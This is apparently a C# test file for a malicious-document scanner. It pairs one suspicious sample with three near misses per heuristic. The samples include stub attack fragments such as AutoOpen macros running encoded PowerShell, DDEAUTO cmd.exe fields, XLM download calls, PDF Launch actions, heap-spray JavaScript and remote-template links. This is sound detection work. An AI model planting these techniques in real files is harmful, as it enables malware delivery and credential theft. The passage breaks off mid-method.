using System.Text;
using ScanHost.Pipeline.Tests.Doubles;
using ScanHost.TestKit;
using static ScanHost.Pipeline.Findings.DocumentHeuristics;

namespace ScanHost.Pipeline.Tests.Audit;

/// <summary>One file that deserves each finding about documents, and three that come close.</summary>
public sealed class DocumentCases
{
    private const string Equation = "0002ce02-0000-0000-c000-000000000046";
    private const string Settings = "word/_rels/settings.xml.rels";
    private const string Document = "word/_rels/document.xml.rels";
    private const string Auto = "Sub AutoOpen()\n";
    private static readonly byte[] Words = "some words"u8.ToArray();
    private static readonly byte[] UrlMoniker = [0xE0, 0xC9, 0xEA, 0x79, 0xF9, 0xBA, 0xCE, 0x11, 0x8C, 0x82, 0, 0xAA, 0, 0x4B, 0xA9, 0x0B];

    private static readonly HeuristicCase[] Compound =
    [
        new(EquationEditor, Formula(60), Formula(12), Object("ObjectPool/_1/Equation Native", new byte[60], "00020820-0000-0000-c000-000000000046"), Object("ObjectPool/_1/\u0001Ole10Native", OlePackageBuilder.Package("a.csv", Words), "0003000c-0000-0000-c000-000000000046")),
        new(BadClass, Object("ObjectPool/_1/\u0003ObjInfo", new byte[6], "eab22ac3-30c1-11cf-a7eb-0000c05bae0b"), Object("ObjectPool/_1/\u0003ObjInfo", new byte[6], "00020906-0000-0000-c000-000000000046"),
            Object("ObjectPool/_1/\u0003ObjInfo", new byte[6], "0003000c-0000-0000-c000-000000000046"), Object("ObjectPool/_1/\u0003ObjInfo", new byte[6], "b801ca65-a1fc-11d0-85ad-444553540000")),
        new(Flash, Object("ObjectPool/_1/\u0003ObjInfo", new byte[6], "d27cdb6e-ae6d-11cf-96b8-444553540000"), Object("ObjectPool/_1/\u0003ObjInfo", new byte[6], "00020906-0000-0000-c000-000000000046"),
            Object("ObjectPool/_1/\u0003ObjInfo", new byte[6], "00020820-0000-0000-c000-000000000046"), Object("ObjectPool/_1/\u0003ObjInfo", new byte[6], "00021a14-0000-0000-c000-000000000046")),
        new(PackedProgram, Packed("update.exe"), Packed("table.csv"), Packed("photo.jpg"), Packed("minutes.docx")),
        new(PackedShortcut, Packed("folder.lnk"), Packed("table.csv"), Packed("links.txt"), Packed("lnk.pdf")),
        new(LinkMoniker, Linked("http://host.invalid/a.hta"), Linked(@"C:\data\prices.xls"), Linked("mailto:office@host.invalid"), Linked("file:///C:/data/prices.xls")),
        new(XlmExec, Sheet("=EXEC(\"powershell\")"), Sheet("=EXEC(\"powershell\")", autoName: 0), Sheet("=ALERT(\"Good morning\")"), Sheet("=EXEC(\"powershell\")", isMacroSheet: false)),
        new(XlmDownload, Sheet("=CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\")"), Sheet("=EXEC(\"notepad\")"), Sheet("=CALL(\"kernel32\",\"Beep\",\"JJJ\")"), Sheet("=ALERT(\"URLDownloadToFileA\")")),
        new(DefaultPassword, Locked("VelvetSweatshop"), Locked("velvetsweatshop"), Locked("infected"), Locked("")),
        new(ShellcodeInMetadata, Summary("4D5A90000300000004000000FFFF0000B8", 8), Summary("Quarterly report", 8), Summary("0000000000000000", 20), Summary("d41d8cd98f00b204e9800998ecf8427e ", 8)),
        new(CorruptCompound, Broken(), new("a.doc", Plain().Build()), new("a.doc", Plain().Stream("\u0005SummaryInformation", PropertySetBuilder.Summary(4, "A. Author")).Build()), Packed("table.csv")),
    ];

    private static readonly HeuristicCase[] Macros =
    [
        Vba(AutoExecWrite, Auto + "Open \"x.txt\" For Output As #1\nEnd Sub", Auto + "MsgBox \"Welcome\"\nEnd Sub", "Sub Export()\nOpen \"x.csv\" For Output As #1\nClose #1\nEnd Sub", Auto + "' CreateObject(\"WScript.Shell\").Run \"x\"\nEnd Sub"),
        Vba(AutoShellEncoded, Auto + "Shell \"powershell -enc SQBFAFgAIAAoAE4AZQB3AC0A\"\nEnd Sub", Auto + "Shell \"notepad a.txt\"\nEnd Sub", "Sub A()\nMsgBox \"powershell -enc SQBFAFgAIAAoAE4AZQB3AC0A\"\nEnd Sub", Auto + "MsgBox \"bin.base64\"\nEnd Sub"),
        Vba(MacroDownload, "Declare Function URLDownloadToFileA Lib \"urlmon\" ()", "Sub Ask()\nSet h = CreateObject(\"MSXML2.XMLHTTP\")\nh.Open \"GET\", \"https://host.invalid/rates\"\nEnd Sub", "Sub Save()\nSet s = CreateObject(\"ADODB.Stream\")\ns.SaveToFile f\nEnd Sub", "Sub Go()\nThisWorkbook.FollowHyperlink \"https://host.invalid/\"\nEnd Sub"),
        Vba(MacroWmi, "Sub A()\nGetObject(\"winmgmts:root\\cimv2:Win32_Process\").Create \"x\"\nEnd Sub", "Sub A()\nFor Each p In GetObject(\"winmgmts:\").ExecQuery(\"Select * from Win32_Printer\")\nNext\nEnd Sub", "Sub A()\nSet f = fso.Create(\"Win32\")\nEnd Sub", "' Win32_Process.Create\nSub A()\nEnd Sub"),
        Vba(MacroInjection, "Declare PtrSafe Function VirtualAlloc Lib \"kernel32\" ()\nDeclare Sub RtlMoveMemory Lib \"kernel32\" ()\nDeclare Function CreateThread Lib \"kernel32\" ()", "Declare Sub RtlMoveMemory Lib \"kernel32\" ()\nSub Copy()\nEnd Sub", "Declare Sub Sleep Lib \"kernel32\" ()", "Declare Function GlobalAlloc Lib \"kernel32\" ()\nDeclare Sub RtlMoveMemory Lib \"kernel32\" ()"),
        Vba(DisablesSecurity, "Sub A()\nw.RegWrite \"HKCU\\Software\\Microsoft\\Office\\16.0\\Word\\Security\\VBAWarnings\", 1\nEnd Sub", "Sub A()\nw.RegWrite \"HKCU\\Software\\Firm\\Level\", 1\nEnd Sub", "Sub A()\nx = w.RegRead(\"HKCU\\Software\\Microsoft\\Office\\16.0\\Word\\Options\\DOC-PATH\")\nEnd Sub", "Sub A()\nApplication.DisplayAlerts = False\nEnd Sub"),
        Vba(CharacterChain, "Sub A()\nx = " + string.Join(" & ", Enumerable.Range(72, 24).Select(code => $"Chr({code - 1} + 1)")) + "\nEnd Sub", "Sub Lines()\nx = \"a\" & Chr(13) & Chr(10) & \"b\" & Chr(34)\nEnd Sub", "Sub A()\nx = Replace(\"a-b\", \"-\", \"\")\nEnd Sub", "Sub A()\nFor i = 65 To 90\nCells(i, 1) = Chr(i)\nNext\nEnd Sub"),
        Vba(HiddenObject, "Sub A()\nCreateObject(clear(\"3A2B1C4D5E6F70\")).Run x\nEnd Sub", "Sub A()\nSet d = GetObject(\"new:{1C3B4210-F441-11CE-B9EA-00AA006B1A69}\")\nEnd Sub", "Sub A()\nSet x = CreateObject(NameOf(\"Outlook\"))\nEnd Sub", "Sub A()\nSet x = CreateObject(\"Scripting.Dictionary\")\nEnd Sub"),
        new(Stomping, Project("Sub A()\nEnd Sub", VbaProjectBuilder.CompiledLiterals("powershell", "http://host.invalid")), Project("Sub A()\nx = \"powershell\"\ny = \"http://host.invalid\"\nEnd Sub", VbaProjectBuilder.CompiledLiterals("powershell", "http://host.invalid")),
            Project("Sub A()\nEnd Sub", []), Project("Sub A()\nEnd Sub", VbaProjectBuilder.CompiledLiterals("one"))),
        new(HiddenData, Form("Sub A()\nx = UserForm1.TextBox1.Text\nEnd Sub", "powershell -w hidden"), Form("Sub A()\nx = UserForm1.TextBox1.Text\nEnd Sub", "Name and address"), Form("Sub A()\nEnd Sub", "powershell -w hidden"), Form("Sub A()\nUserForm1.Show\nEnd Sub", "Print")),
    ];

    private static readonly HeuristicCase[] Packages =
    [
        new(RemoteTemplate, Related(Settings, "attachedTemplate", "http://host.invalid/t.dotm"), Related(Settings, "attachedTemplate", "file:///C:/Users/me/Templates/letter.dotx"), Related(Settings, "attachedTemplate", "Normal.dotm"), Related(Document, "hyperlink", "https://host.invalid/t.dotm")),
        new(RemoteObject, Related(Document, "oleObject", "http://host.invalid/a.doc"), Related(Document, "oleObject", "file:///C:/data/prices.xlsx"), Related(Document, "hyperlink", "https://host.invalid/"), Related(Document, "image", "https://host.invalid/logo.png")),
        new(RemoteScriptObject, Related(Document, "oleObject", "mhtml:http://host.invalid/s.html!x-usc:http://host.invalid/s.html"), Related(Document, "oleObject", "http://host.invalid/a.doc"), Related(Document, "hyperlink", "file:///C:/archive.mhtml"), Related(Document, "image", "https://host.invalid/x-usc.png")),
        new(EmbeddedProgram, Embedded("update.vbs"), Embedded("prices.csv"), Embedded("photo.png"), Embedded("readme.txt")),
        new(Dde, Fields("<w:fldSimple w:instr=\"DDEAUTO c:\\windows\\system32\\cmd.exe &quot;/k calc&quot;\"/>"), Fields("<w:fldSimple w:instr=\"DDEAUTO Excel.Sheet C:\\prices.xlsx R1C1\"/>"), Fields("<w:p><w:t>Run cmd.exe and type DDEAUTO</w:t></w:p>"), Fields("<w:fldSimple w:instr=\"HYPERLINK &quot;https://host.invalid/cmd.exe&quot;\"/>")),
        new(MacroSheet, Excel4("<definedName name=\"_xlnm.Auto_Open\">a!$A$1</definedName>", "visible"), Excel4("<definedName name=\"Prices\">a!$A$1</definedName>", "visible"), Excel4("", "visible"), new("a.xlsx", OoxmlBuilder.Excel("<definedName name=\"_xlnm.Auto_Open\">a!$A$1</definedName>").Build())),
        new(VeryHiddenMacroSheet, Excel4("<definedName name=\"_xlnm.Auto_Open\">a!$A$1</definedName>", "veryHidden"), Excel4("<definedName name=\"_xlnm.Auto_Open\">a!$A$1</definedName>", "hidden"), Excel4("", "visible"), new("a.xlsx", OoxmlBuilder.Excel(sheetState: "veryHidden").Build())),
        new(MacrosUnderPlainType, new("letter.docx", OoxmlBuilder.Word().Part("word/vbaProject.bin", new VbaProjectBuilder().Module("M", "Sub A()\nEnd Sub").Build()).Build()), new("letter.docm", OoxmlBuilder.Word().WithMacros(new VbaProjectBuilder().Module("M", "Sub A()\nEnd Sub").Build()).Build()), new("letter.docx", OoxmlBuilder.Word().Build()), Embedded("prices.csv")),
        new(ActiveX, Part("word/activeX/activeX1.xml", "<ax:ocx xmlns:ax=\"x\"/>"), Part("word/media/activeX.xml", "<a/>"), Part("word/theme/theme1.xml", "<a/>"), Part("docProps/activeX.xml", "<a/>")),
        new(RemoteRibbon, Part("customUI/customUI.xml", "<customUI onLoad=\"http://host.invalid/x.dotm!Run\"/>"), Part("customUI/customUI.xml", "<customUI onLoad=\"Ribbon_OnLoad\"/>"), Part("customUI/customUI.xml", "<customUI/>"), Part("customUI/customUI.xml", "<customUI><button onAction=\"Print\"/></customUI>")),
        new(RemoteVsto, AddIn("https://host.invalid/a.vsto|1f2e"), AddIn("a.vsto|1f2e|vstolocal"), AddIn("file:///C:/addins/a.vsto"), AddIn("")),
        new(PrependedPackage, new("letter.docx", [.. OoxmlBuilder.Word().Build(), .. OoxmlBuilder.Word("<w:p><w:r/></w:p>").Build()]), new("letter.docx", OoxmlBuilder.Word().Build()), new("a.zip", [.. InertFiles.Zip(("a.txt", Words)), .. InertFiles.Zip(("b.txt", Words))]), new("letter.docx", [.. OoxmlBuilder.Word().Build(), .. new byte[40]])),
    ];

    private static readonly HeuristicCase[] Mails =
    [
        Mail(DisplaySpoof, "From: PayPal Service <x@evil.invalid>", "From: PayPal <service@paypal.com>", "From: \"Jane Doe via LinkedIn\" <jane@one.invalid>", "From: \"jane@mail.one.invalid\" <jane@one.invalid>"),
        Mail(ReplyToMismatch, "From: a@one.invalid\nReply-To: a@two.invalid", "From: a@one.invalid\nReply-To: b@lists.one.invalid", "From: a@shop.co.uk\nReply-To: b@help.shop.co.uk", "From: a@one.invalid"),
        Mail(AuthenticationFailed, "From: a@one.invalid\nAuthentication-Results: mx.invalid; spf=pass; dmarc=fail (p=reject)", "From: a@one.invalid\nAuthentication-Results: mx.invalid; spf=fail; dmarc=pass", "From: a@one.invalid\nAuthentication-Results: mx.invalid; dkim=none", "From: a@one.invalid\nX-Note: dmarc=fail"),
        Mail(MixedScriptDomain, "From: a@pаypal.com", "From: info@xn--mnchen-3ya.de", "From: a@paypal.com", "From: a@пример.рф"),
        Mail(MimeAnomaly, "From: a@one.invalid\nFrom: b@one.invalid", "From: a@one.invalid\nReceived: x\nReceived: y", "From: a@one.invalid\nX-A: 1\nX-A: 2", "From: a@one.invalid, b@one.invalid"),
        new(LinkTextMismatch, Html("<a href=\"http://evil.invalid/x\">www.bank.com</a>"), Html("<a href=\"http://click.bank.com/x\">https://www.bank.com/login</a>"), Html("<a href=\"http://evil.invalid/x\">Click here</a>"), Html("<a href=\"mailto:a@bank.com\">a@bank.com</a>")),
        new(HiddenText, Text(string.Concat(Enumerable.Repeat("pa\u200Bssword ", 60))), Text(string.Concat(Enumerable.Repeat("\u200C \u00A0", 200))), Text(string.Concat(Enumerable.Repeat("pa\u200Bss ", 10))), Text(string.Concat(Enumerable.Repeat("password ", 60)))),
        new(DangerousAttachment, With("invoice.js", Words), With("invoice.pdf", Words), With("table.xlsx", Words), With("archive.zip", Words)),
        new(HtmlAttachment, With("page.html", "<html><body><form action=\"http://evil.invalid\"><input type=\"password\"></form></body></html>"u8.ToArray()), With("page.html", "<html><body><p>Your order</p></body></html>"u8.ToArray()),
            With("page.html", "<html><body><form><input type=\"text\"></form></body></html>"u8.ToArray()), With("page.html", "<html><body><img src=\"data:image/png;base64,AAAA\"></body></html>"u8.ToArray())),
        new(PasswordInBody, With("a.zip", LockedZip, "The password is: Tr0ub4dor."), With("a.zip", LockedZip, "I will call you about it."), With("a.zip", InertFiles.Zip(("a.txt", Words)), "Your new password: hunter22"), With("a.txt", Words, "The password is: Tr0ub4dor.")),
        new(ReminderLeak, Reminder(@"\\192.0.2.7\share\a.wav"), Reminder("reminder.wav"), Reminder(@"C:\Windows\Media\chimes.wav"), Reminder("")),
    ];

    private static readonly HeuristicCase[] Pdfs =
    [
        new(PdfLaunchAuto, Pdf("/OpenAction 5 0 R", "<< /S /Launch /F (cmd.exe) >>"), Pdf("/OpenAction [3 0 R /Fit]", "<< /A 1 >>"), Pdf("", "<< /S /Launch /F (cmd.exe) >>"), Pdf("/OpenAction 5 0 R", "<< /S /GoTo /D [3 0 R /Fit] >>")),
        new(PdfLaunch, Pdf("", "<< /S /Launch /Win << /F (cmd.exe) >> >>"), Pdf("", "<< /S /URI /URI (https://host.invalid/launch) >>"), Pdf("", "<< /T (Launch) >>"), Pdf("", "<< /S /GoToR /F (other.pdf) >>")),
        new(PdfLeakAuto, Pdf("/OpenAction 5 0 R", "<< /S /GoToR /F (\\\\\\\\192.0.2.1\\\\a.pdf) >>"), Pdf("", "<< /S /GoToR /F (\\\\\\\\192.0.2.1\\\\a.pdf) >>"), Pdf("/OpenAction 5 0 R", "<< /S /GoToR /F (chapter2.pdf) >>"), Pdf("/OpenAction [3 0 R /Fit]", "<< /S /GoToR /F (chapter2.pdf) >>")),
        new(PdfRemoteLaunch, Pdf("/OpenAction 5 0 R", "<< /S /Launch /F (\\\\\\\\192.0.2.1\\\\a.exe) >>"), Pdf("/OpenAction 5 0 R", "<< /S /Launch /F (calc.exe) >>"), Pdf("", "<< /S /Launch /F (C:/docs/a.doc) >>"), Pdf("", "<< /S /URI /URI (https://host.invalid/a.exe) >>")),
        new(PdfEmbeddedProgram, Attached("setup.exe"), Attached("invoice.xml"), Attached("data.csv"), Attached("notes.txt")),
        new(PdfEmbeddedAutoScript, Exporting("this.exportDataObject\\({cName:\"a\", nLaunch:2}\\)"), Exporting("this.getField\\(\"a\"\\)"), Exporting("this.importDataObject\\(\"a\"\\)"), Attached("a.docx")),
        new(PdfHexKeyword, Pdf("", "<< /S /#4caunch /F (a) >>"), Pdf("", "<< /A#20B 1 >>"), Pdf("", "<< /S /URI /URI (#4caunch) >>"), Pdf("", "<< /Font#2DName /Helvetica >>")),
        new(PdfScriptAuto, Pdf("/OpenAction 5 0 R", "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"), Pdf("", "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"), Pdf("/OpenAction [3 0 R /Fit]", "<< /S /JavaScript /JS (1) >>"), Pdf("/AcroForm << /Fields [] >>", "<< /S /GoTo /D [3 0 R /Fit] >>")),
        new(PdfScriptExploit, Pdf("", "<< /S /JavaScript /JS (util.printf\\(\"%45000f\", 1\\)) >>"), Pdf("", "<< /S /JavaScript /JS (util.printf\\(\"%.2f\", 1\\)) >>"), Pdf("", "<< /S /JavaScript /JS (unescape\\(\"%20%41\"\\)) >>"), Pdf("", "<< /S /JavaScript /JS (Collab.documentToStream) >>")),
        new(PdfExploitAuto, Pdf("/OpenAction 5 0 R", "<< /S /JavaScript /JS (var s=unescape\\(\"%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090\"\\);Collab.getIcon\\(s\\)) >>"), Pdf("", "<< /S /JavaScript /JS (var s=unescape\\(\"%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090\"\\);Collab.getIcon\\(s\\)) >>"),
            Pdf("/OpenAction 5 0 R", "<< /S /JavaScript /JS (Collab.getIcon\\(\"logo\"\\)) >>"), Pdf("/OpenAction 5 0 R", "<< /S /JavaScript /JS (util.printf\\(\"%.2f\", 1\\)) >>")),
        new(PdfLure, Lure("http://192.0.2.5/a", 600, 1), Lure("https://www.bank.com/", 600, 1), Lure("https://bit.ly/x", 100, 1), Lure("https://bit.ly/x", 600, 2)),
        new(PdfDangerousLink, Pdf("", "<< /S /URI /URI (http://host.invalid/setup.exe) >>"), Pdf("", "<< /S /URI /URI (https://host.invalid/report.pdf) >>"), Pdf("", "<< /S /URI /URI (https://host.invalid/exe) >>"), Pdf("", "<< /S /URI /URI (https://host.invalid/?q=a.exe.html) >>")),
        new(PdfRemoteAction, Pdf("", "<< /S /GoToE /F (\\\\\\\\192.0.2.1\\\\a) >>"), Pdf("", "<< /S /GoToR /F (other.pdf) >>"), Pdf("", "<< /S /GoTo /D [3 0 R /Fit] >>"), Pdf("", "<< /S /URI /URI (https://host.invalid/) >>")),
        new(PdfTailData, new("a.pdf", [.. PdfBuilder.Document(), .. Encoding.ASCII.GetBytes(new string('x', 501))]), new("a.pdf", [.. PdfBuilder.Document(), .. Encoding.ASCII.GetBytes(new string('x', 500))]), new("a.pdf", PdfBuilder.Document()), new("a.pdf", [.. PdfBuilder.Document(), .. "\r\n\r\n"u8])),
        new(PdfActiveMime, new("a.pdf", [.. PdfBuilder.Document(), .. "MIME-Version: 1.0\nContent-Type: application/x-mso\n\nQWN0aXZlTWltZQAAAfAEAAAA/////w\n"u8]), new("a.pdf", [.. PdfBuilder.Document(), .. "MIME-Version: 1.0\nContent-Type: text/plain\n\nHello\n"u8]), new("a.pdf", PdfBuilder.Document()), new("a.txt", "MIME-Version: 1.0\nActiveMime is a wrapping")),
    ];

    private static readonly HeuristicCase[] RichTexts =
    [
        new(RtfEquation, RtfFormula(60), RtfFormula(12), new("a.rtf", RtfBuilder.WithObject("Excel.Sheet.8", new byte[100])), new("a.rtf", RtfBuilder.WithObject("PBrush", new byte[100]))),
        new(RtfObjUpdate, new("a.rtf", RtfBuilder.WithObject("Word.Document.8", new byte[50], "\\objupdate")), new("a.rtf", RtfBuilder.WithObject("Word.Document.8", new byte[50])), new("a.rtf", "{\\rtf1 objupdate}"), new("a.rtf", "{\\rtf1\\ansi plain}")),
        new(RtfLink, RtfLinked("http://host.invalid/a.hta"), RtfLinked("file:///C:/data/a.xls"), RtfLinked("mailto:a@host.invalid"), RtfLinked("C:\\data\\a.xls")),
        new(RtfPackedProgram, new("a.rtf", RtfBuilder.WithPackage("run.vbs", Words)), new("a.rtf", RtfBuilder.WithPackage("a.csv", Words)), new("a.rtf", RtfBuilder.WithPackage("photo.bmp", Words)), new("a.rtf", RtfBuilder.WithPackage("minutes.doc", Words))),
        HeuristicCase.Of(RtfTemplate, "a.rtf", "{\\rtf1{\\*\\template http://host.invalid/t.dotm}}", "{\\rtf1{\\*\\template C:\\\\Templates\\\\letter.dot}}", "{\\rtf1 {\\*\\template normal.dot} http://host.invalid/}", "{\\rtf1{\\field{\\*\\fldinst HYPERLINK \"http://host.invalid/t.dotm\"}}}"),
        new(RtfObfuscated, RtfBroken(2), RtfBroken(200), RtfBroken(5000), new("a.rtf", $"{{\\rtf1 {new string('{', 900)}{new string('}', 900)}}}")),
        HeuristicCase.Of(RtfBadHeader, "a.rtf", "{\\rt text of a document that only Word opens}", "{\\rtf1\\ansi plain}", "{\\rtf1{\\info{\\title rt}}}", "{\\rtf1\\rt1 plain}"),
        HeuristicCase.Of(RtfDde, "a.rtf", "{\\rtf1{\\field{\\*\\fldinst DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"}}}", "{\\rtf1{\\field{\\*\\fldinst DDE Excel Book1 R1C1}}}", "{\\rtf1{\\field{\\*\\fldinst HYPERLINK \"https://host.invalid/cmd\"}}}", "{\\rtf1 DDEAUTO cmd.exe}"),
    ];

    private static readonly HeuristicCase[] Notebooks =
    [
        new(OneNoteProgram, Section(("invoice.hta", Words)), Section(("minutes.docx", Words)), Section(("photo.png", InertFiles.Png())), Section(("table.csv", Words))),
        new(OneNoteDirection, Section(("invoice\u202Efdp.exe", Words)), Section(("invoice.pdf", Words)), Section(("\u2067שלום\u2069.txt", Words)), Section(("photo.png", InertFiles.Png()))),
        new(OneNoteEncodedScript, Section(("a.txt", "#@~^AAAAAA==abc^#~@"u8.ToArray())), Section(("a.txt", Words)), Section(("a.txt", "#@~ is a mark"u8.ToArray())), Section(("photo.png", InertFiles.Png()))),
        new(OneNoteRepeated, Section([.. Enumerable.Repeat(("a.bat", Run), 4)]), Section([.. Enumerable.Repeat(("a.bat", Run), 3)]), Section([.. Enumerable.Repeat(("a.txt", Words), 4)]), Section(("a.bat", Run))),
        new(OneNoteLure, Section(("a.bat", Run), ("button.png", InertFiles.Png())), Section(("a.bat", Run)), Section(("a.txt", Words), ("button.png", InertFiles.Png())), Section(("button.png", InertFiles.Png()), ("b.png", InertFiles.Png(tail: [])))),
    ];

    private static readonly HeuristicCase[] Installers =
    [
        new(InstallerCommand, Msi("A\t34\tINSTALLDIR\tpowershell -w hidden"), Msi("A\t34\tINSTALLDIR\tsample.exe /register"), Msi("A\t51\tARPNOREPAIR\t1"), Msi("A\t35\tINSTALLDIR\t[ProgramFilesFolder]cmd")),
        new(InstallerScript, Msi("A\t38\t\tMsgBox 1"), Msi("A\t34\tINSTALLDIR\tsample.exe"), Msi("A\t51\tARPNOREPAIR\t1"), Msi("A\t35\tINSTALLDIR\t[ProgramFilesFolder]vbs")),
        new(InstallerStartup, Msi("A\t51\tKEY\tSoftware\\Microsoft\\Windows\\CurrentVersion\\Run"), Msi("A\t51\tKEY\tSoftware\\Firm\\Run"), Msi("A\t51\tKEY\tSoftware\\Microsoft\\Windows\\CurrentVersion\\Uninstall"), Msi("A\t51\tKEY\tStartup")),
        new(InstallerLibrary, Msi("A\t1\tPayload\tEntry"), Msi("A\t34\tINSTALLDIR\tsample.exe"), Msi("A\t51\tARPNOREPAIR\t1"), Msi("A\t35\tINSTALLDIR\t[ProgramFilesFolder]dll")),
    ];

    private static readonly HeuristicCase[] WebArchives =
    [
        new(ActiveMime, Archive("x.mso", "QWN0aXZlTWltZQAAAfAEAAAA/////wAAAPAEAAAABAAAAAAAAAAAAAAAAAAAAHgB"), Archive("x.png", "iVBORw0KGgo="), Archive("x.mso", "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"), Archive("x.css", "Ym9keXt9")),
    ];

    private static byte[] Run => "@echo off\r\npowershell -w hidden -c x\r\n"u8.ToArray();

    private static readonly HeuristicCase[] All = [.. Compound, .. Macros, .. Packages, .. Mails, .. Pdfs, .. RichTexts, .. Notebooks, .. Installers, .. WebArchives];

    public static TheoryData<int> Rows => [.. Enumerable.Range(0, All.Length)];

    [Theory]
    [MemberData(nameof(Rows))]
    public Task A_document_deserves_it_and_three_that_come_close_do_not(int row) => All[row].CheckAsync();

    private static OleFileBuilder Plain() => new OleFileBuilder().Stream("WordDocument", new byte[600]).Class("", "00020906-0000-0000-c000-000000000046");

    private static SampleFile Object(string stream, byte[] content, string clsid) => new("a.doc", Plain().Stream(stream, content).Class("ObjectPool/_1", clsid).Build());

    private static SampleFile Formula(int fontLength) => Object("ObjectPool/_1/Equation Native", Native(fontLength), Equation);

    private static byte[] Native(int fontLength) => [28, 0, 0, 0, 2, 0, .. new byte[22], 3, 1, 1, 3, 10, 0x0A, 8, 1, 0, .. Enumerable.Repeat((byte)'A', fontLength), 0, 1, 0];

    private static SampleFile Packed(string name) => Object("ObjectPool/_1/\u0001Ole10Native", OlePackageBuilder.Package(name, Words), "0003000c-0000-0000-c000-000000000046");

    private static SampleFile Linked(string target) => new("a.doc", Plain().Stream("ObjectPool/_1/\u0001Ole", [1, 0, 0, 2, 1, 0, 0, 0, .. new byte[12], .. UrlMoniker, (byte)((target.Length * 2) + 2), 0, 0, 0, .. Encoding.Unicode.GetBytes(target + "\0")]).Build());

    private static SampleFile Sheet(string formula, byte autoName = 1, bool isMacroSheet = true) => new("a.xls", new OleFileBuilder().Stream("Workbook", BiffBuilder.MacroSheet(formula, autoName, 2, isMacroSheet)).Build());

    private static SampleFile Locked(string password) => new("a.docx", AgileEncryption.Encrypt(OoxmlBuilder.Word().Build(), password));

    private static SampleFile Summary(string text, int times) => new("a.doc", Plain().Stream("\u0005SummaryInformation", PropertySetBuilder.Summary(6, string.Concat(Enumerable.Repeat(text, times)))).Build());

    private static SampleFile Broken()
    {
        var file = Plain().Build();
        file[28] = 0;
        return new("a.doc", file);
    }

    private static HeuristicCase Vba(Findings.Heuristic heuristic, string positive, params string[] negatives) => new(heuristic, Project(positive, []), [.. negatives.Select(source => Project(source, []))]);

    private static SampleFile Project(string source, byte[] cache) => new("vbaProject.bin", new VbaProjectBuilder().Module("M", source, cache).Build());

    private static SampleFile Form(string source, string text) => new("vbaProject.bin", new VbaProjectBuilder().Module("M", source).AddTo(new OleFileBuilder()).Stream("UserForm1/o", [.. new byte[20], .. Encoding.ASCII.GetBytes(text)]).Build());

    private static SampleFile Related(string part, string kind, string target) => new("a.docx", OoxmlBuilder.Word().Relationship(part, kind, target).Build());

    private static SampleFile Part(string name, string xml) => new("a.docx", OoxmlBuilder.Word().Part(name, xml).Build());

    private static SampleFile Embedded(string name) => new("a.docx", OoxmlBuilder.Word().Part("word/embeddings/oleObject1.bin", new OleFileBuilder().Stream("\u0001Ole10Native", OlePackageBuilder.Package(name, "a,b,c"u8.ToArray())).Build()).Build());

    private static SampleFile Fields(string body) => new("a.docx", OoxmlBuilder.Word(body).Build());

    private static SampleFile Excel4(string names, string state) => new("a.xlsm", OoxmlBuilder.Excel(names, state).Part("xl/macrosheets/sheet1.xml", "<xm:macrosheet xmlns:xm=\"x\"><f>ALERT(\"Hi\")</f></xm:macrosheet>").Build());

    private static SampleFile AddIn(string location) => Part("docProps/custom.xml", $"<Properties><property name=\"_AssemblyLocation\"><vt:lpwstr xmlns:vt=\"x\">{location}</vt:lpwstr></property></Properties>");

    private static HeuristicCase Mail(Findings.Heuristic heuristic, string positive, params string[] negatives) => new(heuristic, Message(positive, "Hello"), [.. negatives.Select(headers => Message(headers, "Hello"))]);

    private static SampleFile Message(string headers, string body) =>
        new("a.eml", $"Received: from a by b; Mon, 1 Jan 2024 00:00:00 +0000\nDate: Mon, 1 Jan 2024 00:00:00 +0000\nMessage-Id: <1@one.invalid>\nTo: you@two.invalid\nMIME-Version: 1.0\n{headers}\n\n{body}\n");

    private static SampleFile Html(string html) => Message("From: a@one.invalid\nContent-Type: text/html", html);

    private static SampleFile Text(string text) => Message("From: a@one.invalid\nContent-Type: text/plain; charset=utf-8", text);

    private static SampleFile With(string name, byte[] content, string body = "Hello") => Message("From: a@one.invalid\nSubject: hello\nContent-Type: multipart/mixed; boundary=b",
        $"--b\nContent-Type: text/plain\n\n{body}\n--b\nContent-Type: application/octet-stream\nContent-Disposition: attachment; filename=\"{name}\"\nContent-Transfer-Encoding: base64\n\n{Convert.ToBase64String(content, Base64FormattingOptions.InsertLineBreaks)}\n--b--");

    private static byte[] LockedZip => TestKit.HeldOut.Second.MailForms.Locked("zip", "Tr0ub4dor", ("inner.txt", Words));

    private static SampleFile Reminder(string path) => new("a.msg", new MsgBuilder().Text(0x0037, "Meeting").Text(0x1000, "see you").ReminderFile(path).Build());

    private static SampleFile Pdf(string catalogue, string action) => new("a.pdf", new PdfBuilder().Catalogue(catalogue).Add(5, action).Build());

    private static SampleFile Attached(string name) => new("a.pdf", new PdfBuilder().Add(5, $"<< /Type /Filespec /F ({name}) /EF << /F 6 0 R >> >>").Stream(6, "/Type /EmbeddedFile", Words).Build());

    private static SampleFile Exporting(string script) => new("a.pdf", new PdfBuilder().Add(5, $"<< /S /JavaScript /JS ({script}) >>").Add(7, "<< /F (a.docm) /EF << /F 6 0 R >> >>").Stream(6, "/Type /EmbeddedFile", "x"u8.ToArray()).Build());

    private static SampleFile Lure(string link, int width, int links)
    {
        var file = new PdfBuilder().Stream(5, $"/Subtype /Image /Width {width} /Height 600 /Filter /DCTDecode", [0xFF, 0xD8]);
        for (var number = 0; number < links; number++)
            file.Add(10 + number, $"<< /S /URI /URI ({link}{number}) >>");
        return new("a.pdf", file.Build());
    }

    private static SampleFile RtfFormula(int fontLength) => new("a.rtf", RtfBuilder.WithObject("Equation.3", new OleFileBuilder().Stream("Equation Native", Native(fontLength)).Build()));

    private static SampleFile RtfLinked(string target) => new("a.rtf", RtfBuilder.WithObject("OLE2Link", [1, 0, 0, 2, 1, 0, 0, 0, .. UrlMoniker, (byte)((target.Length * 2) + 2), 0, 0, 0, .. Encoding.Unicode.GetBytes(target + "\0")]));

    private static SampleFile RtfBroken(int every) => new("a.rtf", $"{{\\rtf1{{\\object{{\\*\\objdata {string.Join("{\\x}", Convert.ToHexString(RtfBuilder.Embedded("Word.Document.8", new byte[900])).Chunk(every).Select(chunk => new string(chunk)))}}}}}}}");

    private static SampleFile Archive(string name, string base64) => new("a.mht",
